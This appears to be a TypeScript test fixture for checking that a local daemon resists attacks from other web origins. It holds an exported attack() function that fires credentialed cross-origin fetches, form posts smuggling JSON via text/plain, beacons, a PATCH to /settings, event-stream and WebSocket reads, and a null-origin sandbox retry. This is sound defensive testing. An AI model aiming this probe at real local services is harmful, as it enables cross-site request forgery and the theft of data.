// Servers of others on this machine: one that serves a page, and one that believes whoever asks.
import { createHash } from "node:crypto";
import { createServer, type IncomingMessage, type Server } from "node:http";
import type { AddressInfo, Socket } from "node:net";
import type { Duplex } from "node:stream";

/** A page without anything in it, at every path. */
export const PAGE = "<!doctype html><title>Somebody else</title><body></body>";

async function listening(server: Server): Promise<number> {
  await new Promise<void>((ready) => server.listen(0, "127.0.0.1", ready));
  return (server.address() as AddressInfo).port;
}

/** Serves [`PAGE`] on a port of its own. */
export class Elsewhere {
  private constructor(
    readonly port: number,
    private readonly server: Server,
  ) {}

  static async start(): Promise<Elsewhere> {
    const server = createServer((_, reply) => reply.setHeader("content-type", "text/html").end(PAGE));
    return new Elsewhere(await listening(server), server);
  }

  stop(): void {
    this.server.closeAllConnections();
    this.server.close();
  }
}

/** What the careless one tells everybody. */
export const SECRET = "the-careless-one-s-secret";

/** The same addresses as the daemon's and nobody at the door: what a page of others can do where nothing is done about it. */
export class Careless {
  /** What arrived: the method, the path, what it was for, and its kind of content. */
  readonly seen: string[] = [];
  private readonly sockets = new Set<Socket | Duplex>();
  private readonly server: Server;
  port = 0;

  private constructor() {
    this.server = createServer((request, reply) => {
      this.note(request);
      request.resume();
      if (request.url === "/events") {
        reply.setHeader("content-type", "text/event-stream").write(`data: ${SECRET}\n\n`);
        return;
      }
      reply.setHeader("content-type", "application/json").end(JSON.stringify({ told: SECRET }));
    });
    this.server.on("connection", (socket: Socket) => this.sockets.add(socket));
    this.server.on("upgrade", (request, socket) => {
      this.note(request);
      const key = `${request.headers["sec-websocket-key"]}258EAFA5-E914-47DA-95CA-C5AB0DC85B11`;
      const accepted = createHash("sha1").update(key).digest("base64");
      const head = ["HTTP/1.1 101 Switching Protocols", "Upgrade: websocket", "Connection: Upgrade", `Sec-WebSocket-Accept: ${accepted}`];
      socket.write(`${head.join("\r\n")}\r\n\r\n`);
      socket.write(Buffer.concat([Buffer.from([0x81, SECRET.length]), Buffer.from(SECRET)]));
      this.sockets.add(socket);
    });
  }

  private note(request: IncomingMessage): void {
    const kind = (request.headers["content-type"] ?? "").split(";")[0];
    const purpose = request.headers.upgrade === undefined ? request.headers["sec-fetch-dest"] : "socket";
    this.seen.push(`${request.method} ${request.url} ${purpose} ${kind}`.trim());
  }

  static async start(): Promise<Careless> {
    const careless = new Careless();
    careless.port = await listening(careless.server);
    return careless;
  }

  stop(): void {
    for (const socket of this.sockets) socket.destroy();
    this.server.close();
  }
}

/**
 * Everything that a page can send to another address without asking its visitor, and what it got to read of the answers.
 * It runs in that page, so it can use nothing from outside of itself.
 */
export async function attack(target: string): Promise<string[]> {
  const got: string[] = [];
  const keep = (what: string, text: string | null | undefined) => {
    if (text !== undefined && text !== null && text.trim() !== "") got.push(`${what}: ${text.slice(0, 300)}`);
  };
  const patience = 3000;
  const within = (work: Promise<void>) => Promise.race([work.catch(() => {}), new Promise<void>((end) => setTimeout(end, patience))]);
  const event = (element: EventTarget, loaded: () => void) =>
    new Promise<void>((end) => {
      element.addEventListener("load", () => (loaded(), end()));
      element.addEventListener("error", () => end());
    });
  const works: Promise<void>[] = [];

  for (const path of ["/status", "/repos", "/history", "/settings", "/openapi.json"]) {
    for (const mode of ["cors", "no-cors"] as const) {
      works.push(fetch(target + path, { mode, credentials: "include" }).then(async (reply) => keep(`fetch ${mode} ${path}`, await reply.text())));
    }
    const image = new Image();
    works.push(event(image, () => keep(`image ${path}`, `${image.width}`)));
    image.src = target + path;
    const script = document.createElement("script");
    script.src = target + path;
    document.body.append(script);
    const frame = document.createElement("iframe");
    works.push(event(frame, () => keep(`frame ${path}`, frame.contentDocument?.body?.textContent)));
    frame.src = target + path;
    document.body.append(frame);
  }
  for (const path of ["/disable", "/trigger"]) {
    for (const kind of ["text/plain", "application/x-www-form-urlencoded", "multipart/form-data"]) {
      const frame = document.createElement("iframe");
      frame.name = `${path}${kind}`;
      const form = document.createElement("form");
      form.method = "post";
      form.action = target + path;
      form.enctype = kind;
      form.target = frame.name;
      const field = document.createElement("input");
      // As text/plain this is `{"x": "=1"}`, or nearly so.
      field.name = '{"dry_run": false, "x": "';
      field.value = '"}';
      form.append(field);
      document.body.append(frame, form);
      works.push(event(frame, () => keep(`form ${path}`, frame.contentDocument?.body?.textContent)));
      form.submit();
    }
    for (const type of ["text/plain", "application/json"]) {
      navigator.sendBeacon(target + path, new Blob(["{}"], { type }));
      const asked = { method: "POST", credentials: "include", headers: { "content-type": type }, body: "{}" } as const;
      for (const mode of ["cors", "no-cors"] as const) {
        works.push(fetch(target + path, { ...asked, mode }).then(async (reply) => keep(`post ${mode} ${path}`, await reply.text())));
      }
    }
    works.push(fetch(target + path, { method: "POST", mode: "no-cors", credentials: "include" }).then(async (reply) => keep(`post ${path}`, await reply.text())));
    const image = new Image();
    image.src = target + path;
  }
  works.push(fetch(`${target}/settings`, { method: "PATCH", credentials: "include", body: '{"changes": {"push": false}}' }).then(async (reply) => keep("patch", await reply.text())));
  const events = new EventSource(`${target}/events`, { withCredentials: true });
  works.push(
    new Promise((end) => {
      events.onopen = () => keep("events", "open");
      events.onmessage = ({ data }) => (keep("events", String(data)), end());
      events.onerror = () => end();
    }),
  );
  const socket = new WebSocket(`${target.replace("http", "ws")}/events`);
  works.push(
    new Promise((end) => {
      socket.onopen = () => keep("socket", "open");
      socket.onmessage = ({ data }) => (keep("socket", String(data)), end());
      socket.onerror = () => end();
    }),
  );
  await Promise.all(works.map(within));
  events.close();
  socket.close();
  if (window.origin !== "null") {
    // Once more from a frame that is of nobody.
    const frame = document.createElement("iframe");
    frame.setAttribute("sandbox", "allow-scripts allow-forms");
    const told = new Promise<void>((end) => {
      window.addEventListener("message", ({ data }) => {
        for (const line of data as string[]) keep("of nobody", line);
        end();
      });
    });
    frame.srcdoc = `<body><script>(${attack.toString()})(${JSON.stringify(target)}).then((got) => parent.postMessage(got, "*"))</scr` + "ipt></body>";
    document.body.append(frame);
    await Promise.race([told, new Promise<void>((end) => setTimeout(end, 4 * patience))]);
  }
  return got;
}
